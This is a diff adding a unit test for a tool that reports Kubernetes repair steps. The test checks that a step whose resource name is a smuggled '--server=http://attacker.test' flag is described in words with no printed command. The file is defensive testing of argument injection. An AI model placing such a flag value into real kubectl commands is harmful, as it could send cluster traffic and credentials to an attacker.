@@ -30,3 +30,21 @@ test.each([READ_LOG, RESTART])('$id begins with what makes the target reachable,
   expect(steps).toHaveLength(repair.steps.length + 1)
   expect(steps[1]?.command).toContain('--kubeconfig lab.kubeconfig')
 })
+
+test('a repair in which a name would be read as a flag is told in words, all of it', () => {
+  const step = {changes: 'nothing', objects: [], needs: []} as const
+  const {steps} = reportedRepair(
+    {
+      id: 'x.y',
+      summary: 'repair it',
+      steps: [
+        {...step, does: 'look', command: [kubectl('agents', 'get', 'secret', 'good')]},
+        {...step, does: 'patch', command: [kubectl('agents', 'patch', 'service', '--server=http://attacker.test')]},
+      ],
+    },
+    {...COMMANDS, first: []},
+    [],
+  )
+  expect(steps.map(({command}) => command)).toEqual([undefined, undefined])
+  expect(steps[1]?.does).toContain('patch (no command is printed')
+})
